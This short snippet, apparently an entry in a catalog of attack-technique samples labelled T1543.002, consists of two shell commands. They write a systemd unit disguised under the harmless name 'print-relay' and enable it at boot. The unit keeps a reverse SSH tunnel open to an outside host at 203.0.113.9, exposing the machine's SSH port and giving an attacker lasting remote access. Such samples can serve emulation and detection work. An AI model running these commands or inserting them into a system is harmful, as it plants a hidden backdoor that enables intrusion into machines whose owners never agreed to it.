# technique: T1543.002
# location: linux.systemd.service
# source: /etc/systemd/system/print-relay.service
printf '[Service]\nExecStart=/usr/bin/ssh -N -R 2222:localhost:22 -o ServerAliveInterval=30 relais@203.0.113.9\nRestart=always\n[Install]\nWantedBy=multi-user.target\n' > /etc/systemd/system/print-relay.service
systemctl enable print-relay
